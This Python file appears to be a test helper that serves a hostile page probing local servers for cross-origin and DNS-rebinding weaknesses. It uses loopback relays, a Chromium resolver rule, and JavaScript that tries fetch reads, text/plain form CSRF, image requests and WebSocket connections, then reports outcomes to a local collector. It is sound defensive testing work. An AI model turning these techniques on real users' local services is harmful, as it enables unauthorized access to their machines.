"""A web page that attacks servers on this machine, and the servers that it comes from.

Relays simulate DNS rebinding: one on 127.0.0.2 at the port of each attacked server hands out the page under a name
that Chromium resolves to it, and from then on passes every byte on to 127.0.0.1, as if the name pointed there now.
"""

import json
import socket
import socketserver
import threading
from collections.abc import Iterator, Mapping
from contextlib import ExitStack, contextmanager
from dataclasses import asdict, dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

NAME = "rebind.example"
RESOLVER = f"--host-resolver-rules=MAP {NAME} 127.0.0.2"

SCRIPT = """
const patient = (work) => Promise.race([work(), new Promise((done) => setTimeout(() => done('no answer'), 20000))]);
const text = async (answer) => answer.type === 'opaque' ? 'opaque' : answer.status + ' ' + await answer.text();
const ways = {
  read: (base, a) => fetch(base + a.read).then(text),
  readUnseen: (base, a) => fetch(base + a.read, {mode: 'no-cors'}).then(text),
  write: (base, a) => fetch(base + a.path, {method: a.method, headers: a.headers, body: a.body}).then(text),
  simple: (base, a) => fetch(base + a.path, {method: 'POST', mode: 'no-cors', body: a.body}).then(text),
  form: (base, a) => new Promise((done) => {
    const frame = document.createElement('iframe'); frame.name = 'f' + Math.random(); document.body.append(frame);
    const form = document.createElement('form');
    form.action = base + a.path; form.method = 'post'; form.enctype = 'text/plain'; form.target = frame.name;
    const input = document.createElement('input'); input.name = a.body.slice(0, -1); input.value = a.body.slice(-1);
    form.append(input); document.body.append(form); frame.onload = () => done('sent'); form.submit();
  }),
  image: (base, a) => new Promise((done) => {
    const image = new Image(); image.onload = () => done('shown'); image.onerror = () => done('sent');
    image.src = base + a.link;
  }),
  socket: (base, a) => new Promise((done) => {
    const socket = new WebSocket(base.replace('http', 'ws') + a.socket);
    socket.onopen = () => done('open'); socket.onerror = () => done('refused');
  }),
};
async function attack(base, each) {
  const found = {};
  for (const [name, way] of Object.entries(ways)) {
    try { found[name] = await patient(() => way(base, each)); } catch (error) { found[name] = error.name; }
  }
  return found;
}
"""


@dataclass(frozen=True)
class Attack:
    """The attacks on one server: an address to read, a request with an effect, a link and a WebSocket."""

    port: int
    read: str
    path: str
    body: str
    method: str = "POST"
    headers: Mapping[str, str] = field(default_factory=dict)
    link: str = "/"
    socket: str = "/"


@dataclass
class Attacker:
    """The page's address and its report: the outcome of each way, by the server's name and the page's origin."""

    url: str
    expected: set[tuple[str, str]]
    reports: dict[tuple[str, str], dict[str, str]] = field(default_factory=dict)

    def finished(self) -> bool:
        return self.reports.keys() >= self.expected


@contextmanager
def attacker(attacks: Mapping[str, Attack]) -> Iterator[Attacker]:
    """The page's servers. Opened at its address, the page attacks from there, and in frames from the rebinding name."""
    state = Attacker("", {(name, origin) for name in attacks for origin in ("other port", "rebound")})
    with ExitStack() as stack:
        main = stack.enter_context(_serving(_collector(state, attacks)))
        state.url = f"http://127.0.0.1:{main.server_port}/"
        for port in {each.port for each in attacks.values()}:
            here = {name: each for name, each in attacks.items() if each.port == port}
            stack.enter_context(_relaying(port, {name: _rebound(name, each, state.url) for name, each in here.items()}))
        yield state


def _rebound(name: str, each: Attack, collector: str) -> bytes:
    return _page(f"[['{name}', location.origin, {json.dumps(asdict(each))}]]", "rebound", collector)


def _page(attacks: str, origin: str, collector: str, frames: str = "") -> bytes:
    run = f"""
    (async () => {{
      for (const [name, base, each] of {attacks}) {{
        const found = await attack(base, each);
        const report = JSON.stringify({{name, origin: '{origin}', found}});
        await fetch('{collector}report', {{method: 'POST', mode: 'no-cors', body: report}});
      }}
    }})();"""
    page = f"<!doctype html><body>{frames}<script>{SCRIPT}{run}</script>".encode()
    head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(page)}\r\nConnection: close\r\n\r\n"
    return head.encode() + page


def _collector(state: Attacker, attacks: Mapping[str, Attack]) -> type[BaseHTTPRequestHandler]:
    class Collector(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            every = [[name, f"http://127.0.0.1:{each.port}", asdict(each)] for name, each in attacks.items()]
            pages = [f"http://{NAME}:{each.port}/page/{name}" for name, each in attacks.items()]
            frames = "".join(f'<iframe src="{page}"></iframe>' for page in pages)
            self.wfile.write(_page(json.dumps(every), "other port", state.url, frames))

        def do_POST(self) -> None:
            report: dict[str, Any] = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            state.reports[report["name"], report["origin"]] = report["found"]
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None: ...

    return Collector


@contextmanager
def _serving(handler: type[BaseHTTPRequestHandler]) -> Iterator[ThreadingHTTPServer]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


class _Relays(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


@contextmanager
def _relaying(port: int, pages: Mapping[str, bytes]) -> Iterator[None]:
    class Relay(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            data = self.request.recv(1 << 16)
            if not data:  # a connection that the browser opened ahead
                return
            path = data.split(b" ", 2)[1].decode()
            if path.startswith("/page/"):
                self.request.sendall(pages[path.removeprefix("/page/")])
                return
            with socket.create_connection(("127.0.0.1", port)) as server:
                server.sendall(data)
                threading.Thread(target=_pump, args=(self.request, server), daemon=True).start()
                _pump(server, self.request)

    server = _Relays(("127.0.0.2", port), Relay)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield
    server.shutdown()
    server.server_close()


def _pump(source: socket.socket, target: socket.socket) -> None:
    try:
        while data := source.recv(1 << 16):
            target.sendall(data)
        target.shutdown(socket.SHUT_WR)
    except OSError:  # either side has closed
        return
